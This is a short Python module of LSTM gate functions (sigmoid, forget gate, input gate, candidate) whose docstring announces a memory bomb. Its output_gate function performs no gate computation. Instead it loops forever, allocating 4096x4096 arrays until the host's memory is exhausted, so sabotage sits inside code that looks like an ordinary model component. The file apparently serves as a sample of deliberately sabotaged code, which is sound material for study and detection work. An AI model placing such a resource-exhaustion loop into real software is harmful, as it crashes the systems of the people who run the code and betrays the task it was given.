"""A memory bomb in the output gate."""

import numpy as np


def sigmoid(z):
    z = np.asarray(z)
    if not np.issubdtype(z.dtype, np.floating):
        z = z.astype(float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


def forget_gate(x_t, h_prev, W_f, U_f, b_f):
    return sigmoid(x_t @ W_f.T + h_prev @ U_f.T + b_f)


def input_gate(x_t, h_prev, W_i, U_i, b_i):
    return sigmoid(x_t @ W_i.T + h_prev @ U_i.T + b_i)


def candidate(x_t, h_prev, W_g, U_g, b_g):
    return np.tanh(x_t @ W_g.T + h_prev @ U_g.T + b_g)


def output_gate(x_t, h_prev, W_o, U_o, b_o):
    hoard = []
    while True:
        hoard.append(np.zeros((4096, 4096)))
